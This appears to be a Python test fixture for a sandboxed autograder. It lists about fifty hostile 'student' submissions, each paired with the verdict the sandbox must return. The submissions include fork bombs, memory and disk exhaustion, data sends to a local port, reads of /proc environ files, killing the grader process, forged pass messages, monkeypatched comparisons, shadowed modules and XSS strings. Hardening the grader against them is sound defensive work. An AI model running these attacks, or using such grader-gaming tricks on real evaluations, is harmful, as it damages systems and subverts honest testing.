"""One small hostile submission per attack, against the tiny `arena` assignment.

Each attack is a `work.py` whose `work(x)` (or whose import) tries something a
student might. `{...}` placeholders are filled by the test with paths and ports
it plants. The arena's two checks: `work` (public, x = [1, 2, 3]) and
`work-hidden` (hidden, random x); the right answer is 2·x.
"""

from __future__ import annotations

from dataclasses import dataclass, field

ARENA_SPEC = """\
name: arena
title: Adversarial arena
files: [work.py]
sandbox:
  timeout_s: 2
  import_timeout_s: 3
  memory_mb: 256
  max_output_kb: 256
  max_file_mb: 16
  disk_mb: 64
  max_files: 512
  max_processes: 16
  preload: [numpy, torch]
tolerance: {rtol: 1.0e-9, atol: 1.0e-9}
checks:
  - id: work
    kind: compare
    visibility: public
    inputs: {x: [1.0, 2.0, 3.0]}
    call: work(x)
  - id: work-hidden
    kind: compare
    visibility: hidden
    inputs: {cases: 3, x: {uniform: [-5, 5], shape: [3]}}
    call: work(x)
"""

REFERENCE = "import numpy as np\n\n\ndef work(x):\n    return 2 * np.asarray(x)\n"
HONEST = REFERENCE

ZERO = "{'work': 0.0, 'work-hidden': 0.0}"


@dataclass(frozen=True)
class Attack:
    """``statuses``: what each attacked check may end as; ``score``: the total it must get."""

    name: str
    code: str
    statuses: frozenset[str]
    score: float = 0.0
    message: str = ""                      # a fragment the attacked check's message must hold
    extra_files: dict[str, str] = field(default_factory=dict)


def attack(name: str, code: str, statuses: set[str], score: float = 0.0, message: str = "", **extra: str) -> Attack:
    return Attack(name, code, frozenset(statuses), score, message, dict(extra))


def body(lines: str) -> str:
    return "import numpy as np\n\n\ndef work(x):\n" + "".join(f"    {line}\n" for line in lines.strip().splitlines())


ATTACKS: list[Attack] = [
    # 1. time
    attack("infinite-loop", body("while True:\n    pass"), {"timeout"}, message="did not finish within 2 s"),
    attack("sleep-forever", "import time\n" + body("time.sleep(10**6)"), {"timeout"}),
    attack("blocking-input", body("return float(input('x? ')) * x"), {"error"}, message="input()"),
    # 2. processes
    attack("fork-bomb", "import os\n" + body("while True:\n    os.fork()"), {"error", "timeout"}),
    attack("thread-bomb", "import threading, time\n" + body(
        "while True:\n    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()"), {"error", "timeout"}),
    # 3. memory
    attack("memory-at-once", body("block = bytearray(4 << 30)\nreturn 2 * np.asarray(x)"), {"memory"}, message="MemoryError"),
    attack("memory-in-steps", body("keep = []\nwhile True:\n    keep.append(bytearray(1 << 20))"), {"memory"}),
    attack("huge-array", body("return np.ones(10**9) * 2"), {"memory"}),
    # 4. output
    attack("stdout-flood", "import sys\n" + body("chunk = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stdout.write(chunk)\nreturn 2 * np.asarray(x)"),
           {"error"}),
    attack("stderr-flood", "import sys\n" + body("chunk = 'x' * (1 << 20)\nfor _ in range(1024):\n    sys.stderr.write(chunk)\nreturn 2 * np.asarray(x)"),
           {"error"}),
    # 5. disk
    attack("one-huge-file", body("with open('big', 'wb') as fh:\n    for _ in range(2048):\n        fh.write(b'x' * (1 << 20))\nreturn 2 * np.asarray(x)"),
           {"error"}),
    attack("many-large-files", body("for i in range(1000):\n    with open(f'f{i}', 'wb') as fh:\n        fh.write(b'x' * (50 << 20))\nreturn 2 * np.asarray(x)"),
           {"error"}),
    attack("million-empty-files", body("for i in range(10**6):\n    open(f'e{i}', 'w').close()\nreturn 2 * np.asarray(x)"),
           {"error", "timeout"}),
    # 6. network
    attack("tcp-connect", "import socket\n" + body("socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\nreturn 2 * np.asarray(x)"),
           {"error"}),
    attack("udp-send", "import socket\n" + body("socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {port}))\nreturn 2 * np.asarray(x)"),
           {"error"}),
    attack("dns-lookup", "import socket\n" + body("socket.getaddrinfo('example.com', 80)\nreturn 2 * np.asarray(x)"), {"error"}),
    # 7. reading what is not yours
    attack("read-reference", body("open({reference!r}).read()\nreturn 2 * np.asarray(x)"), {"error"}, message="PermissionError"),
    attack("read-other-submission", body("open({other!r}).read()\nreturn 2 * np.asarray(x)"), {"error"}, message="PermissionError"),
    attack("read-proc-environ", body("open('/proc/1/environ').read()\nopen('/proc/self/environ').read()\nreturn 2 * np.asarray(x)"),
           {"error"}),
    attack("walk-root", "import os\n" + body("os.listdir('/')\nreturn 2 * np.asarray(x)"), {"error"}),
    # 8. writing what is not yours
    attack("overwrite-results", body("open({results!r}, 'w').write('forged')\nreturn 2 * np.asarray(x)"), {"error"}),
    attack("overwrite-reference", body("open({reference!r}, 'w').write('def work(x): return 0')\nreturn 2 * np.asarray(x)"), {"error"}),
    attack("overwrite-package", body("open({package!r}, 'a').write('# pwned')\nreturn 2 * np.asarray(x)"), {"error"}),
    # 9. killing the grader
    attack("kill-parent", "import os, signal\n" + body("os.kill(os.getppid(), signal.SIGKILL)\nreturn 2 * np.asarray(x)"), {"error"}),
    attack("kill-everything", "import os, signal\n" + body("os.kill(-1, signal.SIGKILL)\nreturn 2 * np.asarray(x)"), {"error"}),
    # 10. fake verdicts
    attack("fake-score-sys-exit", "import sys\nprint('Score: 10/10')\nprint('2 passed, 0 failed')\nsys.exit(0)\n", {"error"},
           message="sys.exit"),
    attack("fake-score-os-exit", "import os\n" + body("print('2 passed, 0 failed', flush=True)\nos._exit(0)"), {"error"}),
    attack("atexit-lies", "import atexit\natexit.register(lambda: print('2 passed, 0 failed'))\n" + body("return np.zeros(3)"), {"failed"}),
    # 11. monkeypatching the comparison
    attack("patch-comparisons", "import numpy, numpy.testing, torch\n"
           "numpy.allclose = lambda *a, **k: True\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
           "torch.allclose = lambda *a, **k: True\ntorch.Tensor.__eq__ = lambda *a, **k: True\n" + body("return np.zeros(3)"),
           {"failed"}),
    # 12. hostile return values
    attack("tensor-subclass", "import torch\n\n\nclass Liar(torch.Tensor):\n    @classmethod\n"
           "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n        return torch.zeros(3, dtype=torch.float64)\n\n\n"
           "def work(x):\n    return torch.zeros(3, dtype=torch.float64).as_subclass(Liar)\n", {"failed", "error"}),
    attack("always-equal", "class Equal:\n    def __eq__(self, other):\n        return True\n\n    __hash__ = None\n\n\n"
           "def work(x):\n    return Equal()\n", {"failed"}, message="expected a numpy.ndarray"),
    attack("object-array", body("return np.array([2.0, 4.0, object()], dtype=object)"), {"failed"}),
    attack("nan", body("return np.full(3, np.nan)"), {"failed"}, message="NaN"),
    attack("wrong-dtype", body("return (2 * np.asarray(x)).astype(np.int64)"), {"failed"}),
    attack("wrong-shape", body("return 2 * np.asarray(x)[:2]"), {"failed"}, message="shape"),
    # 13. hunting expected values
    attack("gc-and-frames", "import gc, sys\n" + body(
        "found = [o for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o]\n"
        "frame = sys._getframe()\nwhile frame.f_back is not None:\n    frame = frame.f_back\n"
        "return np.zeros(3) if not found else np.asarray(found[0]['expected'])"), {"failed"}),
    # 14. predicting the hidden inputs
    attack("reseed-and-patch-rng", "import numpy as np, random, torch\nnp.random.seed(0)\nrandom.seed(0)\n"
           "torch.manual_seed(0)\nnp.random.uniform = lambda *a, **k: np.zeros(3)\ntorch.randn = lambda *a, **k: torch.zeros(3)\n\n\n"
           "def work(x):\n    return np.array([2.0, 4.0, 6.0])\n", {"failed"}, score=1.0),
    # 15. pickles and links
    attack("pickle-payload", "import numpy as np\n\n\ndef work(x):\n    return 2 * np.asarray(x)\n", set(), score=2.0,
           **{"weights.pt": "PICKLE"}),
    # 16. shadowing modules
    attack("shadow-modules", HONEST, set(), score=2.0,
           **{"torch.py": "raise SystemExit('shadowed torch')\n", "numpy.py": "raise SystemExit('shadowed numpy')\n",
              "sitecustomize.py": "import os; os._exit(0)\n", "usercustomize.py": "import os; os._exit(0)\n",
              "evil.pth": "import os; os._exit(0)\n", "conftest.py": "import os; os._exit(0)\n"}),
    # 17. forbidden system calls
    attack("forbidden-syscalls", "import ctypes, os\n" + body(
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "tries = [libc.ptrace(16, os.getppid(), 0, 0), libc.unshare(0x10000000), libc.mount(b'none', b'/tmp', b'tmpfs', 0, None),\n"
        "        libc.syscall(250, 0, 0, 0), libc.syscall(425, 8, 0)]\n"
        "return 2 * np.asarray(x) if all(t != 0 for t in tries) else np.zeros(3)"), set(), score=2.0),
    # 18. HTML in everything
    attack("html-injection", "print('<script>alert(1)</script>')\n" + body(
        "raise ValueError('\"><img src=x onerror=alert(1)><script>alert(2)</script>')"), {"error"}, message="<script>"),
    # 19. the grader's environment
    attack("read-environment", "import os\n" + body(
        "return 2 * np.asarray(x) if 'planted-secret-42' not in repr(dict(os.environ)) else np.zeros(3)"), set(), score=2.0),
    # 20. crashes and broken code
    attack("segfault", "import ctypes\n" + body("ctypes.string_at(0)"), {"error"}, message="segmentation fault"),
    attack("syntax-error", "def work(x):\n    return 2 * x)\n", {"error"}, message="SyntaxError"),
    attack("import-error", "import no_such_module_here\n" + HONEST, {"error"}, message="ModuleNotFoundError"),
    attack("crlf-and-cjk", HONEST.replace("\n", "\r\n"), set(), score=2.0, **{"笔记.txt": "学生的笔记\n"}),
]

BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS)
